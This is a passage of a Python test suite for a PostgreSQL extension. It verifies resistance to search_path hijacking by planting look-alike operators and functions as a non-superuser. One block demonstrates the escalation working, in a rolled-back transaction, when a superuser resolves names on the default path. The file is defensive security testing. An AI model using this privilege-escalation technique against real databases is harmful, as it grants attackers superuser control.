    assert [s.state(ids[n]) for n in "xyz"] == ["failed", "skipped", "skipped"]

    flow, ids = build(s, "lane-h", ["p", "q"], [("p", "q")])
    assert s.value("SELECT flowfabric.ff_cancel_flow(%s, 'stop')", (flow,)) == 2
    assert [s.state(ids[n]) for n in "pq"] == ["cancelled", "cancelled"]

    assert s.one("SELECT * FROM flowfabric.ff_dispatch_completion(9223372036854775807)") == ("noop", 0)


def operations(s):
    """Reconcilers, key rotation (a secret of one's choosing is for
    superusers only) and the lane channel."""
    assert len(s.one("SELECT * FROM flowfabric.ff_reconcile_tick()")) == 5
    assert len(s.one("SELECT * FROM flowfabric.ff_reconcile_tick(0, 'default', 'tag')")) == 5
    assert "lease_expiry" in s.value("SELECT flowfabric.ff_run_reconcilers()")
    assert s.value("SELECT flowfabric.ff_rotate_hmac_secret('attacker-kid')") == "attacker-kid"
    s.run("SELECT flowfabric.ff_rotate_hmac_secret('attacker-kid-2', %s)", (b"\x07" * 32,), expect="42501")
    assert s.value("SELECT flowfabric.ff_lane_channel('lane-a')") == "ff_lane_lane-a"


def job_surface(s, available):
    """The 0.3 job-system calls, for those the installed build has."""
    if {"ff_pause_lane", "ff_resume_lane"} <= available:
        eid = s.create("lane-p")
        s.run("SELECT flowfabric.ff_pause_lane('lane-p')")
        assert s.claim("lane-p") is None, "a paused lane is not claimed"
        s.run("SELECT flowfabric.ff_resume_lane('lane-p')")
        assert drain(s, "lane-p") == [eid]
    if "ff_list_executions" in available:
        first = s.run("SELECT * FROM flowfabric.ff_list_executions(lane_id => 'lane-b', max_count => 1)")
        assert len(first) == 1
        after = first[0][0]["execution_id"]
        s.run("SELECT * FROM flowfabric.ff_list_executions(lane_id => 'lane-b', after_execution_id => %s)", (after,))
        s.run("SELECT * FROM flowfabric.ff_list_executions(public_state => 'completed')")
    if "ff_submit_flow" in available:
        spec = {"flow_id": str(uuid.uuid4()), "namespace": "default",
                "nodes": [{"name": "root", "lane": "lane-s", "payload": {"k": 1}},
                          {"name": "leaf", "lane": "lane-s", "policy": {"kind": "all_of"}}],
                "edges": [{"from": "root", "to": "leaf", "kind": "success_only"}]}
        answer = s.value("SELECT flowfabric.ff_submit_flow(%s)", (Jsonb(spec),))
        assert s.value("SELECT flowfabric.ff_submit_flow(%s)", (Jsonb(spec),)) == answer, "a re-submission"
        root, leaf = answer["executions"]["root"], answer["executions"]["leaf"]
        eid, grant = s.claim("lane-s")
        assert eid == root
        s.complete(root, grant, {"r": 1})
        if "ff_get_inputs" in available:
            assert s.value("SELECT flowfabric.ff_get_inputs(%s)", (leaf,)) == {"root": {"r": 1}}
        drain(s, "lane-s")
        if "ff_get_flow" in available:
            assert s.value("SELECT flowfabric.ff_get_flow(%s::uuid)", (answer["flow_id"],))["state"] == "completed"
    if "ff_get_flow" in available and "ff_submit_flow" not in available:
        flow, _ = build(s, "lane-s", ["only"], [])
        s.value("SELECT flowfabric.ff_get_flow(%s)", (flow,))
    if "ff_get_inputs" in available and "ff_submit_flow" not in available:
        flow, ids = build(s, "lane-i", ["up", "down"], [("up", "down")])
        drain(s, "lane-i")
        s.value("SELECT flowfabric.ff_get_inputs(%s)", (ids["down"],))
    if {"ff_create_schedule", "ff_drop_schedule"} <= available:
        # Every second: the background worker turns due times into executions.
        s.value("SELECT flowfabric.ff_create_schedule('every-second', '* * * * * *', 'lane-cron', "
                "payload => %s)", (Jsonb({"cron": True}),))
        s.value("SELECT flowfabric.ff_create_schedule('dropped', '*/5 * * * *', 'lane-cron')")
        s.run("SELECT flowfabric.ff_drop_schedule('dropped')")


def leave_work_for_the_worker(s):
    """Work only a reconciler pass can finish, made after the workload's own
    last reconciler call: a lease that expires at once (its downstream
    waits on it) and an execution that becomes due in a moment."""
    flow, ids = build(s, "lane-w", ["lease", "after"], [("lease", "after")])
    eid, _ = s.claim("lane-w", ttl=1)
    assert eid == ids["lease"]
    due = s.create("lane-w2", delay_until_ms=int(time.time() * 1000) + 1000)
    assert s.state(due) == "delayed"
    return ids["lease"], due


# ---------------------------------------------------------------------------
# Tests
# ---------------------------------------------------------------------------

EXTENSION_FUNCTIONS = f"""
    SELECT p.proname FROM pg_proc p {EXTENSION_MEMBER}
    WHERE p.prorettype <> 'trigger'::regtype ORDER BY 1"""

EXTENSION_VIEWS = """
    SELECT c.relname FROM pg_class c
    JOIN pg_depend d ON d.classid = 'pg_class'::regclass AND d.objid = c.oid AND d.deptype = 'e'
    JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'flowfabric'
    WHERE c.relkind = 'v' ORDER BY 1"""


def marker_lines(cluster, since):
    """Lines planted code wrote to the server log after offset `since`: it
    logs itself before anything else, so even a run whose transaction was
    rolled back (and its pwned row with it) leaves a trace."""
    return [line for line in cluster.log()[since:].splitlines() if MARKER in line]


def uncalled(su, functions):
    """Functions of the extension the statistics collector saw no completed
    call of (track_functions = all)."""
    su.execute("SELECT pg_stat_clear_snapshot()")
    return su.execute(
        "SELECT array_agg(p.proname ORDER BY p.proname) FROM pg_proc p "
        "LEFT JOIN pg_stat_user_functions f ON f.funcid = p.oid AND f.calls > 0 "
        "WHERE p.pronamespace = 'flowfabric'::regnamespace AND p.proname = ANY(%s) AND f.funcid IS NULL",
        (sorted(functions),)).fetchone()[0] or []


def test_planted_lookalikes_never_run_as_the_extension(lookalike_cluster, capsys):
    """Plants, in attackdb.public and as its non-superuser owner, look-alikes
    of every operator and catalog function the extension's SQL uses; then
    installs the extension, shadows its functions, calls every one of them
    with data and reads every view as that owner, and waits for
    background-worker passes over the results. No planted code ran, and the
    owner is still no superuser."""
    c = lookalike_cluster
    log_start = len(c.log())
    ops, names = scan_sources()
    with c.connect("attackdb", search_path="pg_catalog") as catalog, \
            c.connect("attackdb", user=ATTACKER, search_path="public") as attacker:
        planting = Planting(catalog, ops, names)
        with capsys.disabled():
            print(f"\n[lookalike] operators the extension's SQL uses ({len(planting.operators)}): "
                  f"{' '.join(planting.operators)}")
            print(f"[lookalike] catalog functions it calls ({len(planting.functions)}): "
                  f"{' '.join(planting.functions)}")
        assert {"*", "<@", "&&", "=", "<>", "<=", ">=", "||", "->>", "+", "-"} <= set(planting.operators)
        assert {"unnest", "array_agg", "count", "max", "jsonb_build_object", "pg_notify"} <= set(planting.functions)
        assert not {"coalesce", "extract", "greatest", "exists", "values"} & set(planting.functions)
        make_pwned_table(attacker)
        took = plant(attacker, planting, "public")
        with capsys.disabled():
            print(f"[lookalike] planted {planting.counts} in attackdb.public in {took:.1f} s, "
                  f"e.g. {sorted(planting.sample.values())}")
        assert planting.counts["operators"] >= 2000, planting.counts
        assert planting.counts["functions"] >= 100 and planting.counts["aggregates"] >= 20, planting.counts
        assert planting.counts["ties"] >= 200, planting.counts
        assert not is_superuser(catalog)

    # A DBA installs the extension from a session with the database's
    # default search_path (public, pg_catalog: the owner set it).
    with c.connect("attackdb", search_path=None) as dba:
        dba.execute("CREATE EXTENSION flowfabric")
        dba.execute(f"GRANT flowfabric_admin, flowfabric_worker TO {ATTACKER}")

    with superuser(c, "attackdb") as su, c.connect("attackdb", user=ATTACKER, search_path="public") as attacker:
        functions = {r[0] for r in su.execute(EXTENSION_FUNCTIONS)}
        views = [r[0] for r in su.execute(EXTENSION_VIEWS)]
        shadows = plant_shadows(attacker, su)
        with capsys.disabled():
            print(f"[lookalike] planted {shadows} shadows of the extension's own functions in attackdb.public")
        assert shadows >= len(functions) >= 25, functions

    # The attacker's own session searches public before pg_catalog too.
    with c.connect("attackdb", user=ATTACKER, search_path="public, pg_catalog, flowfabric") as conn:
        s = Session(conn)
        budgets_and_quotas(s)
        executions_and_claims(s)
        flows(s)
        job_surface(s, functions)
        operations(s)
        for relation in views + ["ff_reconciler_status"]:
            s.run(f"SELECT * FROM flowfabric.{relation}")
        expiring, due = leave_work_for_the_worker(s)
    missing = functions - s.called
    assert not missing, f"functions of the extension the workload does not call yet: {sorted(missing)}"

    with superuser(c, "attackdb") as su:
        def passes():
            row = su.execute("SELECT passes FROM ff_reconciler_status WHERE runner = 'bgworker'").fetchone()
            return row[0] if row else 0

        def state(eid):
            return su.execute("SELECT ff_get_execution(%s) ->> 'public_state'", (eid,)).fetchone()[0]

        # The worker's passes run over everything the workload left, and
        # finish what only a reconciler can.
        start = passes()
        assert wait_for(lambda: passes() >= start + 2, timeout=15), c.log()[-3000:]
        assert wait_for(lambda: state(expiring) != "active" and state(due) == "waiting", timeout=10), \
            (state(expiring), state(due))
        if "ff_create_schedule" in functions:
            assert wait_for(lambda: su.execute("SELECT count(*) FROM ff_exec_core WHERE lane_id = 'lane-cron'")
                            .fetchone()[0] > 0, timeout=5), "the worker ran no schedule"
        start = passes()
        assert wait_for(lambda: passes() >= start + 2, timeout=10)
        errors, last_error = su.execute(
            "SELECT errors, last_error FROM ff_reconciler_status WHERE runner = 'bgworker'").fetchone()
        assert errors == 0, last_error

        # The server's own count agrees that every function ran to completion.
        assert wait_for(lambda: not uncalled(su, functions), timeout=10), uncalled(su, functions)

        pwned = su.execute("SELECT who, what FROM public.pwned").fetchall()
        assert pwned == [], f"planted code ran: {pwned}"
        assert marker_lines(c, log_start) == []
        assert not is_superuser(su)

    # The trap is armed: a superuser statement that resolves names with the
    # database's default path (as every SECURITY DEFINER function would
    # without its pinned search_path, and the worker without its SET LOCAL)
    # runs planted code at once, ties included, and the attacker becomes a
    # superuser. Shown with one of the extension's own expressions, in a
    # transaction that is rolled back. (Only operator-free statements read
    # the evidence: every `=` here is planted.)
    with c.connect("attackdb", search_path=None) as dba:
        with dba.transaction():
            dba.execute("SELECT (extract(epoch FROM clock_timestamp()) * 1000)::bigint")
            dba.execute("SELECT count(u) FROM unnest(%s::uuid[]) u", ([uuid.uuid4()],))
            dba.execute("SELECT 1 FROM pg_roles WHERE rolname = 'postgres'")
            ran = {what for who, what in dba.execute("SELECT who, what FROM public.pwned") if who == "postgres"}
            assert {"operator public.*(numeric, integer)", "function public.unnest(uuid[])",
                    "aggregate public.count(uuid) final", "operator public.=(name, name)"} <= ran, ran
            roles = dict(dba.execute("SELECT rolname, rolsuper FROM pg_roles").fetchall())
            assert roles[ATTACKER], "planted code run by a superuser made the attacker one"
            raise psycopg.Rollback()
    with superuser(c, "attackdb") as su:
        assert su.execute("SELECT count(*) FROM public.pwned").fetchone()[0] == 0
        assert not is_superuser(su)
    assert marker_lines(c, log_start), "planted code logs itself when it runs"


def test_a_schema_named_flowfabric_made_beforehand_is_refused(lookalike_cluster):
    """A database owner who creates a schema `flowfabric` first, filled with
    look-alikes that the install script would otherwise find on its path,
    makes CREATE EXTENSION fail with 42501 naming that owner, and nothing
    planted runs. Once that schema is gone the extension installs, in a
    schema the superuser owns and nobody else may create in."""
    c = lookalike_cluster
    log_start = len(c.log())
    with c.connect(search_path="pg_catalog") as su:
        su.execute("DROP DATABASE IF EXISTS lookalike_schema WITH (FORCE)")
        su.execute(f"CREATE DATABASE lookalike_schema OWNER {ATTACKER}")
    with c.connect("lookalike_schema", search_path="pg_catalog") as catalog, \
            c.connect("lookalike_schema", user=ATTACKER, search_path="public") as attacker:
        attacker.execute("CREATE SCHEMA flowfabric")
        make_pwned_table(attacker, "flowfabric")
        planting = Planting(catalog, *scan_sources())
        plant(attacker, planting, "flowfabric")
        assert planting.counts["operators"] >= 2000, planting.counts

    with c.connect("lookalike_schema", search_path=None) as dba:
        with pytest.raises(psycopg.errors.InsufficientPrivilege) as refused:
            dba.execute("CREATE EXTENSION flowfabric")
        assert f"owned by {ATTACKER}" in str(refused.value), str(refused.value)
    with c.connect("lookalike_schema", search_path="pg_catalog") as su:
        assert su.execute("SELECT count(*) FROM flowfabric.pwned").fetchone()[0] == 0
        assert su.execute("SELECT count(*) FROM pg_extension WHERE extname = 'flowfabric'").fetchone()[0] == 0
        assert not is_superuser(su)
    assert marker_lines(c, log_start) == []

    with c.connect("lookalike_schema", user=ATTACKER, search_path="public") as attacker:
        attacker.execute("DROP SCHEMA flowfabric CASCADE")
    with c.connect("lookalike_schema", search_path=None) as dba:
        dba.execute("CREATE EXTENSION flowfabric")
    with c.connect("lookalike_schema", search_path="pg_catalog") as su:
        assert su.execute("SELECT nspowner::regrole::text FROM pg_namespace WHERE nspname = 'flowfabric'") \
            .fetchone()[0] == "postgres"
        grants = su.execute("""
            SELECT CASE WHEN a.grantee = 0 THEN 'PUBLIC' ELSE a.grantee::regrole::text END, a.privilege_type
            FROM pg_namespace n, aclexplode(n.nspacl) a
            WHERE n.nspname = 'flowfabric' AND a.grantee <> n.nspowner""").fetchall()
        assert [g for g in grants if g[1] == "CREATE"] == [], grants
        assert {g[0] for g in grants} <= {"flowfabric_worker", "flowfabric_admin"}, grants
        assert not is_superuser(su)
